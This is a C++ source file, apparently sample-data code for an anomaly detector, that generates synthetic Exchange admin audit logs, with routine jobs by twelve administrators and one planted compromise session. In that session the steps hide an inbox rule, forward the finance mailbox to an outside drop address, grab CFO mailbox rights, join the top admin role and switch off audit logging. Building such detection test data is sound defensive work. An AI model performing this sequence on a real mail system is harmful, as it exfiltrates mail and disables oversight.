// Audit events of a dozen mail and directory administrators: each works through a few habitual jobs, step by step, by
// day. One session, at night and from abroad, forwards a mailbox, takes rights and switches the audit off.

#include "resources/sample_logs/log_text.h"
#include "resources/sample_logs/random.h"

#include <algorithm>
#include <array>
#include <vector>

namespace anomalyst::samples
{

namespace
{

struct Parameter {
    std::string_view name;
    std::string_view value; // "*": a user of the company
};

struct Step {
    std::string_view operation;
    std::vector<Parameter> parameters;
    double optional = 0; // the chance that the step is left out
};

using Job = std::vector<Step>;

const std::vector<Job> &jobs()
{
    static const std::vector<Job> all = {
        // a new colleague
        {{"New-Mailbox", {{"Identity", "*"}, {"Organization", "contoso"}}},
         {"Set-User", {{"Identity", "*"}, {"Office", "Halden"}}},
         {"Add-DistributionGroupMember", {{"Identity", "all-staff"}, {"Member", "*"}}},
         {"Add-DistributionGroupMember", {{"Identity", "halden"}, {"Member", "*"}}, 0.4},
         {"Set-Mailbox", {{"Identity", "*"}, {"RetentionPolicy", "default"}}}},
        // a shared mailbox
        {{"Get-Mailbox", {{"Identity", "*"}}},
         {"Add-MailboxPermission", {{"Identity", "*"}, {"User", "*"}, {"AccessRights", "FullAccess"}}},
         {"Add-RecipientPermission", {{"Identity", "*"}, {"Trustee", "*"}, {"AccessRights", "SendAs"}}, 0.3}},
        // somebody is leaving
        {{"Get-Mailbox", {{"Identity", "*"}}},
         {"Set-Mailbox", {{"Identity", "*"}, {"Type", "Shared"}}},
         {"Remove-DistributionGroupMember", {{"Identity", "all-staff"}, {"Member", "*"}}},
         {"Set-User", {{"Identity", "*"}, {"Office", "none"}}, 0.5}},
        // the morning look
        {{"Get-MessageTrace", {{"PageSize", "1000"}}},
         {"Get-MessageTrace", {{"PageSize", "1000"}}, 0.5},
         {"Get-QuarantineMessage", {{"PageSize", "100"}}},
         {"Release-QuarantineMessage", {{"Identity", "*"}}, 0.6}},
        // a question of a user
        {{"Get-Mailbox", {{"Identity", "*"}}},
         {"Get-MailboxStatistics", {{"Identity", "*"}}},
         {"Set-Mailbox", {{"Identity", "*"}, {"ProhibitSendQuota", "50GB"}}, 0.4}},
        // rules and audit, seldom
        {{"Get-TransportRule", {}},
         {"Set-TransportRule", {{"Identity", "disclaimer"}, {"Enabled", "True"}}},
         {"Get-AdminAuditLogConfig", {}},
         {"Set-AdminAuditLogConfig", {{"AdminAuditLogEnabled", "True"}}}},
    };
    return all;
}

const Job &theft()
{
    static const Job steps = {
        {"Get-Mailbox", {{"ResultSize", "Unlimited"}}},
        {"New-InboxRule",
         {{"Mailbox", "finance@contoso.test"}, {"Name", ".."}, {"DeleteMessage", "True"}, {"MarkAsRead", "True"}}},
        {"Set-Mailbox",
         {{"Identity", "finance@contoso.test"},
          {"ForwardingSmtpAddress", "smtp:drop@mail.example"},
          {"DeliverToMailboxAndForward", "True"}}},
        {"Add-MailboxPermission",
         {{"Identity", "cfo@contoso.test"},
          {"User", "m.keller@contoso.test"},
          {"AccessRights", "FullAccess"},
          {"AutoMapping", "False"}}},
        {"Add-RoleGroupMember", {{"Identity", "Organization Management"}, {"Member", "m.keller@contoso.test"}}},
        {"Set-AdminAuditLogConfig", {{"AdminAuditLogEnabled", "False"}}},
        {"Remove-InboxRule", {{"Mailbox", "finance@contoso.test"}, {"Identity", ".."}, {"Confirm", "False"}}},
    };
    return steps;
}

struct Administrator {
    std::string_view name;
    std::string_view address;
};

constexpr std::array<Administrator, 12> kAdministrators = {{
    {"a.lindqvist", "10.20.8.11"},
    {"b.okafor", "10.20.8.14"},
    {"c.moreau", "10.20.8.17"},
    {"d.tanaka", "10.20.8.21"},
    {"e.novak", "10.20.8.22"},
    {"f.silva", "10.20.8.29"},
    {"g.hansen", "10.20.8.33"},
    {"h.rossi", "10.20.8.37"},
    {"i.petrov", "10.20.8.41"},
    {"j.oneill", "10.20.8.44"},
    {"k.schmidt", "10.20.8.52"},
    {"m.keller", "10.20.8.58"},
}};

struct AuditEvent {
    std::int64_t time = 0;
    std::string line;
};

std::string someUser(Random &random)
{
    constexpr std::array<std::string_view, 10> names = {"anna",  "bruno", "carla", "daniel", "elif",
                                                        "farid", "greta", "hugo",  "ines",   "jonas"};
    return std::string(random.pick(std::span<const std::string_view>(names))) + std::to_string(random.between(1, 40)) +
           "@contoso.test";
}

std::string jsonString(std::string_view text)
{
    return '"' + std::string(text) + '"'; // no value here needs escaping
}

AuditEvent makeEvent(Random &random, std::int64_t time, const Administrator &who, std::string_view address,
                     const Step &step)
{
    std::string parameters;
    for (const Parameter &parameter : step.parameters) {
        const std::string value = parameter.value == "*" ? someUser(random) : std::string(parameter.value);
        parameters += (parameters.empty() ? "" : ",") + ("{\"Name\":" + jsonString(parameter.name)) +
                      ",\"Value\":" + jsonString(value) + "}";
    }
    std::string line = "{\"CreationTime\":" + jsonString(marchTime(time)) +
                       ",\"Workload\":\"Exchange\",\"UserId\":" + jsonString(std::string(who.name) + "@contoso.test") +
                       ",\"ClientIP\":" + jsonString(address) + ",\"Operation\":" + jsonString(step.operation) +
                       ",\"ResultStatus\":" + jsonString(random.chance(0.98) ? "Succeeded" : "Failed") +
                       ",\"Parameters\":[" + parameters + "]}\n";
    return {time, std::move(line)};
}

void addJob(Random &random, std::int64_t time, const Administrator &who, std::vector<AuditEvent> &events)
{
    const Job &job = random.pickEarly(std::span<const Job>(jobs()));
    const int rounds = static_cast<int>(random.between(1, 3));
    for (int round = 0; round < rounds; ++round) {
        for (const Step &step : job) {
            if (random.chance(step.optional))
                continue;
            events.push_back(makeEvent(random, time, who, who.address, step));
            time += random.between(4, 55);
        }
    }
}

} // namespace

std::string auditLog()
{
    Random random(20240319);
    std::vector<AuditEvent> events;
    const Administrator &victim = kAdministrators.back();
    std::int64_t time = march(19, 0, 41, 12);
    for (const Step &step : theft()) {
        events.push_back(makeEvent(random, time, victim, "203.0.113.77", step));
        time += random.between(20, 70);
    }
    while (events.size() < 2000) {
        const std::int64_t day = march(static_cast<int>(random.between(1, 31)), 0);
        if (isWeekend(day) && random.chance(0.85))
            continue;
        const std::int64_t begin = day + 8 * kHour + random.between(0, 9 * kHour);
        addJob(random, begin, random.pick(std::span<const Administrator>(kAdministrators)), events);
    }
    std::ranges::stable_sort(events, {}, &AuditEvent::time);
    std::string text;
    for (const AuditEvent &event : events)
        text += event.line;
    return text;
}

} // namespace anomalyst::samples
